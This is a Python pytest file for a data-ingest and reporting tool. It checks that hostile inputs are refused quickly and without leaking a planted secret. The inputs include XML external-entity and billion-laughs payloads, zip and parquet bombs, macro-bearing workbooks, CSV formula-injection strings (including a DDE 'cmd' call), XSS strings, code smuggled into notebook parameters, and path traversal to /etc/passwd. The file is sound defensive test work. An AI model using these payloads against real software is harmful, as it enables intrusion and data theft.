"""The abuse table of docs/security.md, row by row: what is refused is refused fast, small, in place, and silently
about what the file says."""

from __future__ import annotations

import csv
import io
import re
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import papermill
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import FILES, write_study
from openpyxl import load_workbook
from test_formats import cell, ods, row, table
from test_workbook import SHEET, change, save, sheet_xml

import evaltools as ev
from evaltools.cli import main as cli
from evaltools.ingest import reading
from evaltools.ingest.formats import parquet
from evaltools.ingest.formats.types import RefusedError, Sayer
from evaltools.ingest.reading import DataError
from evaltools.pipeline import job, run
from evaltools.privacy import free_text
from evaltools.report.document import Column, Part, Table
from evaltools.report.inert import FORMULA
from evaltools.report.render import html, spreadsheet
from evaltools.results import records
from evaltools.study import loader
from evaltools.study.faults import StudyError

DOCS = Path(__file__).resolve().parents[1] / "docs" / "security.md"
SECRET = "Salainen-Virtanen"
SECONDS, MEGABYTES = 5, 200  # a loaded machine; what was measured is under 1 s
PEOPLE = "raw/T1/people.csv"
ABUSE: dict[str, Callable[[Path], None]] = {}


def abuse(test: Callable[[Path], None]) -> Callable[[Path], None]:
    ABUSE[test.__name__] = test
    return test


def refused(attempt: Callable[[], object], error: type[Exception]) -> list[str]:
    """The lines of the refusal, in English; nothing of what was planted is in either language."""
    with pytest.raises(error) as failure:
        attempt()
    for language in ("fi", "en"):
        assert SECRET not in "\n".join(failure.value.lines(language))
    return failure.value.lines("en")


def small(folder: Path, files: dict | None = None, edits: dict | None = None) -> Path:
    return write_study(folder / "data" / "small", edits, files)


def problems_of(folder: Path, files: dict[str, str | bytes | None], edits: dict | None = None) -> list[str]:
    read = loader.load(small(folder, files, edits))
    return refused(lambda: reading.read(read, "T1"), DataError)


def workbook(folder: Path) -> tuple[Path, Callable[[], list[str]]]:
    """A study whose participants come as a workbook, to be harmed, and the attempt to read it."""
    edits = {'file = "people*.csv"': 'file = "people*.xlsx"\nformat = "xlsx"'}
    place = small(folder, {PEOPLE: None}, edits)
    path = save(
        place / "raw/T1/people.xlsx", [list(row) for row in csv.reader(io.StringIO(FILES[PEOPLE]), delimiter=";")]
    )
    return path, lambda: refused(lambda: reading.read(loader.load(place), "T1"), DataError)


# --- workbooks -------------------------------------------------------------------------------------------------------


@abuse
def far_cell(folder):
    path, read = workbook(folder)
    change(
        path, SHEET, sheet_xml(f'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>{SECRET}</t></is></c></row>')
    )
    assert read() == [
        "raw/T1/people.xlsx:1048576:XFD: a cell is too far out; at most 200000 × 200 (rows × columns). "
        "Delete the cells that do not belong."
    ]


@abuse
def zip_bomb(folder):
    path, read = workbook(folder)
    change(path, SHEET, sheet_xml("<!--" + " " * 150_000_000 + "-->"))
    assert path.stat().st_size < 1_000_000
    assert ["raw/T1/people.xlsx: the workbook is too large" in line for line in read()] == [True]


@abuse
def parquet_bomb(folder):
    repeated = pa.DictionaryArray.from_arrays(pa.array([0] * 300_000, pa.int32()), pa.array(["x" * 10_000]))
    path = folder / "x.parquet"
    pq.write_table(pa.table({"id": repeated}), path, store_schema=False)
    assert path.stat().st_size < 30_000 and pq.read_metadata(path).row_group(0).total_byte_size < 30_000
    with pytest.raises(RefusedError) as refused:
        list(parquet.rows(path, Sayer("%Y-%m-%d", ".")))
    assert refused.value.what == "file_too_large"


@abuse
def zip_of_many(folder):
    path, read = workbook(folder)
    with zipfile.ZipFile(path, "a") as book:
        for i in range(2_500):
            book.writestr(f"xl/{i}.xml", "")
    assert ["too large" in line for line in read()] == [True]
    # as many, but the end record tells another count
    raw = bytearray(path.read_bytes())
    struct.pack_into("<HH", raw, raw.rfind(b"PK\x05\x06") + 8, 3, 3)
    path.write_bytes(raw)
    assert ["too large" in line for line in read()] == [True]


DOCTYPE = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/{SECRET}">]><x>&e;</x>'


@abuse
def external_entity(folder):
    for member in (SHEET, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"):
        path, read = workbook(folder)
        change(path, member, DOCTYPE)
        assert ["document type declaration" in line for line in read()] == [True], member


@abuse
def external_entity_utf16(folder):
    path, read = workbook(folder)
    change(path, SHEET, DOCTYPE.replace('1.0"', '1.0" encoding="utf-16"').encode("utf-16"))
    assert ["document type declaration" in line for line in read()] == [True]


@abuse
def billion_laughs(folder):
    path, read = workbook(folder)
    entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    change(path, SHEET, f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]>{sheet_xml("")[21:]}'.replace("head", "&a9;"))
    assert ["document type declaration" in line for line in read()] == [True]


@abuse
def macros(folder):
    for member in ("xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/activeX/activeX1.bin", "xl/embeddings/o.bin"):
        path, read = workbook(folder)
        change(path, member, b"x")
        assert ["macros" in line for line in read()] == [True], member
    path, read = workbook(folder)
    with zipfile.ZipFile(path) as book:
        types = book.read("[Content_Types].xml").replace(b"spreadsheetml.sheet.main", b"sheet.macroEnabled.main")
    change(path, "[Content_Types].xml", types)
    assert ["macros" in line for line in read()] == [True]


@abuse
def external_links(folder):
    for member in ("xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/queryTable1.xml"):
        path, read = workbook(folder)
        change(path, member, "<x/>")
        assert ["takes data from elsewhere" in line for line in read()] == [True], member


@abuse
def formula_without_value(folder):
    path, read = workbook(folder)
    head = FILES[PEOPLE].splitlines()[0].split(";")
    save(path, [head, ["x", f'=HYPERLINK("http://example.com/{SECRET}")']])
    assert read()[0].startswith("raw/T1/people.xlsx:2:B: the formula has no stored value")


def as_bytes(folder: Path, ending: str, content: bytes) -> list[str]:
    """What is said of people whose file has this ending and these bytes."""
    edits = {'file = "people*.csv"': f'file = "people*{ending}"'}
    return problems_of(folder, {PEOPLE: None, f"raw/T1/people{ending}": content}, edits)


@abuse
def encrypted_workbook(folder):
    content = bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le") + SECRET.encode() * 100
    for ending in (".xlsx", ".xls"):
        assert ["the file is protected by a password" in line for line in as_bytes(folder, ending, content)] == [True]


@abuse
def old_workbook(folder):
    ole = bytes.fromhex("d0cf11e0a1b11ae1")
    for content, said in (
        (ole + SECRET.encode() * 100, "not a valid XLS workbook"),
        (ole + "_VBA_PROJECT_CUR".encode("utf-16-le"), "macros"),
        (ole + b"x" * 40_000_000, "the file is too large"),
    ):
        assert [said in line for line in as_bytes(folder, ".xls", content)] == [True]


@abuse
def spreadsheet_that_repeats(folder):
    far = cell("x", more='table:number-columns-repeated="16384"')
    for rows in (row(cell(SECRET), many=4_000_000_000), row(far, many=1_000_000)):
        content = ods(folder / "x.ods", table(rows)).read_bytes()
        assert len(content) < 2_000
        assert ["a cell is too far out" in line for line in as_bytes(folder, ".ods", content)] == [True]


@abuse
def statistics_file_that_ends_its_reader(folder):
    content = b"$FL2@(#) SPSS DATA FILE" + SECRET.encode() * 30
    said = "this is an SPSS file (.sav), but it is cut short or broken"
    assert [said in line for line in as_bytes(folder, ".sav", content)] == [True]
    content = b"<stata_dta><header><release>118</release>" + SECRET.encode() * 30
    assert ["not a valid Stata file" in line for line in as_bytes(folder, ".dta", content)] == [True]


@abuse
def format_that_is_not_read(folder):
    for content, named in ((b"[{", "JSON"), (b"<html>", "HTML"), (b"%PDF-1.7", "PDF")):
        lines = as_bytes(folder, ".xls", content + SECRET.encode())
        assert [f"the file is {named}, which is not read" in line for line in lines] == [True]


@abuse
def no_workbook(folder):
    path, read = workbook(folder)
    whole = path.read_bytes()
    for content in (
        b"",
        SECRET.encode(),
        whole[: len(whole) // 2],
        whole[:100] + whole[-100:],
        b"PK\x03\x04" + b"\0" * 50,
    ):
        path.write_bytes(content)
        assert ["not a valid XLSX workbook" in line for line in read()] == [True]
    path, read = workbook(folder)
    change(path, SHEET, sheet_xml("<row><c></row>"))
    assert ["not a valid XLSX workbook" in line for line in read()] == [True]


# --- text files ------------------------------------------------------------------------------------------------------


def with_secret() -> str:
    return FILES[PEOPLE].replace("091;2000", f"{SECRET};2000")


@abuse
def utf16_text(folder):
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        lines = problems_of(folder, {PEOPLE: with_secret().encode(encoding)})
        assert lines[0].startswith(f"{PEOPLE}:1"), encoding


@abuse
def mixed_encodings(folder):
    lines = problems_of(folder, {PEOPLE: with_secret().encode() + f"{SECRET};Ä;;;;;;\n".encode("latin-1")})
    assert lines[0].startswith(f"{PEOPLE}:5: the text is not utf-8")


@abuse
def nul_bytes(folder):
    lines = problems_of(folder, {PEOPLE: with_secret().replace("Man;698", "Man\0;698")})
    assert lines[0].startswith(f"{PEOPLE}:3: the line cannot be read as CSV")


@abuse
def extra_field_in_every_row(folder):
    head, *rows = with_secret().splitlines()
    lines = problems_of(folder, {PEOPLE: "\n".join([head, *(f"extra;{row}" for row in rows)])})
    assert [line for line in lines if PEOPLE in line] == [
        f"{PEOPLE}:1: fields in the heading line: 8; in every other row: 9. Check the separators of the heading."
    ]


@abuse
def duplicated_header(folder):
    lines = problems_of(folder, {PEOPLE: with_secret().replace(";points", ";sex", 1)})
    assert lines[0].startswith(f"{PEOPLE}:1:")
    assert any(line.startswith(f"{PEOPLE}:1:sex: two columns have the same heading") for line in lines)


@abuse
def open_quotation(folder):
    lines = problems_of(folder, {PEOPLE: with_secret().replace("Man;698", '"Man;698')})
    assert lines[0].startswith(f"{PEOPLE}:3: the line cannot be read as CSV")


@abuse
def ids_that_look_like_something_else(folder):
    term = ev.open_study(small(folder)).term("T2")
    assert set(term.raw["participants"]["person"]) == {"091", "NA", "1E5", "None", "nan"}
    assert "TRUE" in set(term.raw["enrolments"]["enrolment"])
    assert len(term.tidy["persons"]) == 5


@abuse
def link_out_of_the_study(folder):
    place = small(folder, {PEOPLE: None})
    outside = folder / "outside.csv"
    outside.write_text(with_secret(), encoding="utf-8")
    (place / PEOPLE).symlink_to(outside)
    lines = refused(lambda: reading.read(loader.load(place), "T1"), DataError)
    assert lines[0] == f"{PEOPLE}: the link leads outside the study's folder. Copy the file into the folder."
    (place / PEOPLE).unlink()
    (place / "raw/T1").rename(folder / "T1")
    (folder / "T1/people.csv").write_text(with_secret(), encoding="utf-8")
    (place / "raw/T1").symlink_to(folder / "T1")
    assert any(
        line.startswith(f"{PEOPLE}: the link leads")
        for line in refused(lambda: reading.read(loader.load(place), "T1"), DataError)
    )


# --- what goes out ---------------------------------------------------------------------------------------------------

FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://example.com")', "=cmd|' /C calc'!A0"]


@abuse
def formula_in_text(folder):
    table = Table("t", "=caption", [Column(f) for f in FORMULAS], [list(FORMULAS)], "en", ["=note"], "=source")
    spreadsheet.write([table], folder, ["=about"])
    frame = records.typed(
        pd.DataFrame([{"study": f, "topic": "x", "note": f} for f in FORMULAS], columns=records.COLUMNS)
    )
    records.write(frame, folder, "results")
    for path in folder.glob("*.csv"):
        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            assert [cell for cell in line if cell.startswith(FORMULA)] == [], path.name
    for path in folder.glob("*.xlsx"):
        book = load_workbook(path)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [c.value for c in cells if c.data_type == "f" or str(c.value).startswith(FORMULA)] == []


SCRIPTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
]


@abuse
def script_in_text(folder):
    table = Table("t", SCRIPTS[0], [Column(s) for s in SCRIPTS], [list(SCRIPTS)], "en", SCRIPTS, SCRIPTS[1])
    fragment = html.part(Part(SCRIPTS[0], SCRIPTS[1], SCRIPTS, [table], SCRIPTS))
    page = html.page(SCRIPTS[0], [fragment], language="en", heading=SCRIPTS[1], facts=[(SCRIPTS[0], SCRIPTS[1])])
    assert "Content-Security-Policy" in page.split("<style>")[0]
    assert re.findall(r"<(?:script|img|iframe|object|embed)\b", page) == []
    tags = re.findall(r"<[a-z][^>]*>", page)
    assert [tag for tag in tags if re.search(r"\son\w+\s*=|javascript:", tag)] == []
    assert all("<" not in free_text.plain(text) for text in SCRIPTS)


# --- parameters and places -------------------------------------------------------------------------------------------


def passed(folder: Path, monkeypatch, *arguments: str) -> list[dict]:
    """The parameters that papermill is given by a command; nothing is executed."""
    seen = []

    def note(*_, parameters, **__):
        seen.append(parameters)
        raise run.RunError("no_terms", 2, known="")

    monkeypatch.setattr(papermill, "execute_notebook", note)
    assert cli.main(["run", str(folder / "data/small"), *arguments]) == 2
    return seen


@abuse
def term_that_looks_like_a_number(folder):
    place = small(
        folder, {name.replace("T1", "091"): content for name, content in FILES.items()}, {'id = "T1"': 'id = "091"'}
    )
    with pytest.MonkeyPatch.context() as patch:
        assert [p["term"] for p in passed(folder, patch, "--term", "091")] == ["091"]
    opened = ev.open_study(place)
    assert opened.term("091").term.id == "091"
    for term in (91, 91.0, None, True):
        assert "expected text" in refused(lambda term=term: opened.term(term), StudyError)[0]
    assert "expected text" in refused(lambda: opened.term("091", ["fi"]), StudyError)[0]
    assert "expected text" in refused(lambda: opened.term("091", "fi", 1), StudyError)[0]
    assert "expected text" in refused(lambda: ev.open_study(1), StudyError)[0]


CODE = '"); open("pwned", "w"); ("'


@abuse
def code_in_parameters(folder):
    place = small(folder)
    for arguments in ((CODE,), ("T1", CODE), ("T1", "fi", CODE)):
        refused(lambda arguments=arguments: ev.open_study(place).term(*arguments), StudyError)
    hostile = write_study(folder / "data" / "a'); open('pwned', 'w'); ('")
    written = []
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)

        def note(_, *__, parameters, **___):
            from papermill.translators import PythonTranslator

            written.append(PythonTranslator.codify(parameters))
            raise run.RunError("no_terms", 2, known="")

        patch.setattr(papermill, "execute_notebook", note)
        with pytest.raises(run.RunError):
            run.run(hostile, ["T1"])
        values: dict[str, str] = {}
        exec(written[0], {"open": None}, values)
    assert values["study"] == f"data/{hostile.name}"
    assert set(values) == set(job.PARAMETERS)
    assert not (folder / "pwned").exists()


@abuse
def foreign_parameter_names(folder):
    small(folder)
    with pytest.MonkeyPatch.context() as patch:
        seen = passed(folder, patch, "--term", "T1")
    assert [set(parameters) for parameters in seen] == [set(job.PARAMETERS)]
    assert all(isinstance(value, str) for value in seen[0].values())
    with pytest.raises(SystemExit):
        cli.main(["run", "x", "--parameter", "import os", "1"])


@abuse
def traversal_in_study_file(folder):
    edits = [
        ({'id = "T1"': 'id = "../T1"'}, "terms.0.id"),
        ({'file = "people*.csv"': 'file = "../../people.csv"'}, "sources.0.file"),
        ({'file = "people*.csv"': 'file = "/etc/passwd"'}, "sources.0.file"),
        ({'file = "people*.csv"': 'file = "**/people.csv"'}, "sources.0.file"),
        ({'file = "people*.csv"': r'file = "..\\people.csv"'}, "sources.0.file"),
        ({"targets = [": 'privacy = { names = "../x" }\ntargets = ['}, "privacy.names"),
        ({'id = "people"': 'id = "../people"'}, "targets.0.id"),
        ({'id = "needs"': 'id = "=needs"'}, "variables.0.id"),
    ]
    for number, (edit, path) in enumerate(edits):
        place = write_study(folder / f"s{number}", edit)
        lines = refused(lambda place=place: loader.load(place), StudyError)
        assert any(f": {path}: " in line for line in lines), (path, lines)


@abuse
def traversal_in_arguments(folder):
    place = small(folder)
    refused(lambda: ev.open_study(place / "../../etc"), StudyError)
    refused(lambda: run.run(place, ["../T1"]), StudyError)
    assert "no notebook" in refused(lambda: run.run(place, ["T1"], only=["../04"]), run.RunError)[0]


@abuse
def outputs_at_an_address(folder):
    place = small(folder)
    for address in ("s3://bucket/x", "gs://bucket/x", "http://example.com/x", "abs://x", "file:///x"):
        assert "not an address" in refused(lambda a=address: run.run(place, ["T1"], outputs=a), run.RunError)[0]


@abuse
def outputs_over_inputs(folder):
    place = small(folder)
    (folder / "link").symlink_to(place)
    (folder / "other").mkdir()
    (folder / "other" / "small").symlink_to(place / "raw")
    before = sorted(folder.rglob("*"))
    for outputs in (place, place / "raw", folder / "data", place / "x/../raw", folder / "link", folder / "other"):
        said = refused(lambda o=outputs: run.run(place, ["T1"], outputs=o), run.RunError)
        assert "must not lie inside" in said[0], outputs
    assert sorted(folder.rglob("*")) == before


# --- the table -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", ABUSE)
def test_abuse(payload, tmp_path):
    ABUSE[payload](tmp_path)


def test_the_table_and_the_tests_are_one():
    rows = re.findall(r"^\| `([a-z0-9_]+)` \|", DOCS.read_text(encoding="utf-8"), flags=re.M)
    assert sorted(rows) == sorted(ABUSE)


@pytest.mark.parametrize("payload", ["far_cell", "zip_bomb", "external_entity_utf16", "billion_laughs", "no_workbook"])
def test_a_hostile_workbook_costs_little(payload, tmp_path, monkeypatch):
    """Time and memory of the refusal alone, without the making of the payload."""
    costs = []

    def measured(read, study_id):
        tracemalloc.start()
        clock = time.perf_counter()
        try:
            return read_all(read, study_id)
        finally:
            costs.append((time.perf_counter() - clock, tracemalloc.get_traced_memory()[1] / 1e6))
            tracemalloc.stop()

    read_all = reading.read
    monkeypatch.setattr(reading, "read", measured)
    ABUSE[payload](tmp_path)
    assert costs
    assert max(seconds for seconds, _ in costs) < SECONDS
    assert max(size for _, size in costs) < MEGABYTES


def test_a_large_zip_of_nothing_is_not_listed(tmp_path):
    """Millions of members in the table of contents: the end record alone is enough to refuse them."""
    from evaltools.ingest.formats.xlsx import read

    path = tmp_path / "many.xlsx"
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"x"
    directory = entry * 300_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 9, 9, len(directory), 4, 0)
    path.write_bytes(b"PK\x03\x04" + directory + end)
    tracemalloc.start()
    clock = time.perf_counter()
    with pytest.raises(RefusedError, match="xlsx_too_large"):
        read(path)
    size = tracemalloc.get_traced_memory()[1] / 1e6
    tracemalloc.stop()
    assert time.perf_counter() - clock < SECONDS
    assert size < 10
